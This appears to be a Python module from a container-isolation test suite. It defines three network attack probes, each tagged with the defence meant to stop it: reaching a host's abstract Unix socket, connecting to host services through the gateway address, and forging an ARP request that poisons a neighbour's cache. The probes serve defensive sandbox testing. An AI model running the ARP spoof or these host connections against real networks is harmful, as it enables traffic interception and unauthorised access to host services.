"""Attacks by the network: neighbours that a container should not be able to speak to, or for."""

import socket
import struct

from scratchlab.attacks.attack import Evidence, attack

PATIENCE = 0.1  # seconds for an answer that comes at once, or never


@attack(
    "unix(7)", stopped_by=("unshare_net",),
    history="CVE-2020-15257: containerd's shim listened on an abstract socket, which `--network host` containers could reach",
)  # fmt: skip
def abstract_socket(name: str, greeting: str) -> Evidence:
    """Connect to a server of the host whose address is no file: such names belong to the network namespace.  unix(7)"""
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{name}")
        client.sendall(greeting.encode())
    return Evidence(True, f"connected to @{name}")


@attack(
    "ip(7)", "nft(8)", stopped_by=("input_drop",),
    history="kubelet, etcd and Docker's own TCP port, open without a password to every container by its gateway's address",
)  # fmt: skip
def gateway_service(address: str, port: int, greeting: str) -> Evidence:
    """Connect to a service of the host, by an address of the host that the container can route to.  ip(7)"""
    with socket.socket() as client:  # create_connection would look for a module that knows about names, gone with the old root
        client.settimeout(PATIENCE)
        client.connect((address, port))
        client.sendall(greeting.encode())
    return Evidence(True, f"connected to {address} port {port}")


_ARP, _ETHERNET, _IPV4, _REQUEST = 0x0806, 1, 0x0800, 1


@attack(
    "packet(7)", "arp(7)", stopped_by=("capabilities",),
    history="CAP_NET_RAW is in Docker's default set: spoofing on one bridge; with IPv6 it was CVE-2020-13401",
)  # fmt: skip
def arp_spoof(link: str, gateway: str, victim: str) -> Evidence:
    """Tell a neighbour on the same switch that the gateway's address is yours: it believes it, and sends you all.  arp(7)"""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ARP)) as wire:
        wire.bind((link, _ARP))
        mine = wire.getsockname()[4]
        # A question from the gateway's address: who is asked notes where to answer, without having been told by anybody.
        question = struct.pack("!HHBBH", _ETHERNET, _IPV4, 6, 4, _REQUEST)
        question += mine + socket.inet_aton(gateway) + bytes(6) + socket.inet_aton(victim)
        wire.send(b"\xff" * 6 + mine + struct.pack("!H", _ARP) + question)
    return Evidence(True, f"told {victim} that {gateway} is at {mine.hex(':')}")
